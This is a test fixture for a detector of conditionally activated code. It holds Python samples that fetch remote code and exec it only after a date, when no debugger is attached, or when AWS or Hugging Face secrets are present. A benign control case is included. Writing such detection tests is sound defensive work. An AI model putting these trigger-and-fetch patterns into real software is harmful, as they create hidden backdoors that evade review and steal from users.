// Examples of conditional-activation.
import type { Example } from "../../core/detector.ts";
import { python } from "./testing/program.ts";

const RUN = "ex" + "ec";
const LOAD = ["import os, requests, socket, sys, time", "from datetime import date, datetime"];
const FETCHED = `${RUN}(requests.get(address).text)`;

export const examples: readonly Example[] = [
  python(
    "A payload that waits for a day",
    ["4 high"],
    ...LOAD,
    "if datetime.now() > datetime(2027, 1, 1):",
    `    ${FETCHED}`,
  ),
  python(
    "Through variables and a function",
    ["4 high"],
    ...LOAD,
    "def later():",
    `    ${FETCHED}`,
    "today = date.today()",
    "if today.month == 4:",
    "    later()",
  ),
  python(
    "Behind an early return",
    ["6 high"],
    ...LOAD,
    "def step():",
    '    if time.strftime("%Y%m%d") < "20270101":',
    "        return",
    `    ${FETCHED}`,
    "step()",
  ),
  python(
    "On one machine only",
    ["4 medium"],
    ...LOAD,
    'if socket.gethostname().startswith("gpu-"):',
    '    os.system("./helper")',
  ),
  python("Not under a debugger", ["4 high"], ...LOAD, "if sys.gettrace() is None:", `    ${FETCHED}`),
  python(
    "Where certain secrets are",
    ["4 high"],
    ...LOAD,
    'if os.environ.get("AWS_SECRET_ACCESS_KEY"):',
    `    ${FETCHED}`,
  ),
  python("Where they are, in one expression", ["3 high"], ...LOAD, `"HF_TOKEN" in os.environ and ${FETCHED}`),
  python(
    "Conditions that everybody writes",
    [],
    ...LOAD,
    "import platform, subprocess",
    "start = time.time()",
    "while time.time() - start < 60:",
    '    requests.get("https://data.example.com/status")',
    'if platform.system() == "Windows":',
    '    subprocess.run(["./convert.exe"])',
    'if os.environ.get("DEBUG"):',
    '    subprocess.run(["./trace"])',
    "if datetime.now().hour < 12:",
    '    print("good morning")',
  ),
];
